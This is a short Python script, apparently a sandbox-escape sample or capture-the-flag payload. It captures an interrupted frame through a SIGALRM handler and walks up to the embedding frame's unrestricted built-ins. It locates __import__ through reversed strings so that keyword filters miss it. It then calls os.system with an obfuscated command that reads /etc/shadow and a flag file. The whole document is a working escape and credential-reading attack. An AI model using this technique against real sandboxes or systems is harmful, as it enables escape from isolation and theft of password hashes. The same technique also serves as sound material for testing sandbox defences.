# technique: a SIGALRM handler installed with signal.signal receives the interrupted frame as its second argument; walking f_back to the top-level (embedding) frame gives its f_builtins, the unrestricted built-in table, where the loader is found by comparing reversed() names rather than writing them
import signal
import time

caught = []


def on_alarm(signum, frame):
    caught.append(frame)


def backwards(text):
    return "".join(reversed(text))


signal.signal(signal.SIGALRM, on_alarm)
signal.setitimer(signal.ITIMER_REAL, 0.005)
deadline = time.monotonic() + 2
while not caught and time.monotonic() < deadline:
    pass

chain = []
frame = caught[0]
while frame is not None:
    chain.append(frame)
    frame = frame.f_back

for outer in reversed(chain):  # top-level frames first
    table = outer.f_builtins
    loader = next(
        (v for v in table.values() if getattr(v, "__name__", "") == backwards("__tropmi__")),
        None,
    )
    if loader is None:
        continue
    proc = loader(backwards("so"))
    shell = vars(proc)[backwards("metsys")]
    shell(backwards("wodahs/cte/ galf/ tac ;di"))
    break
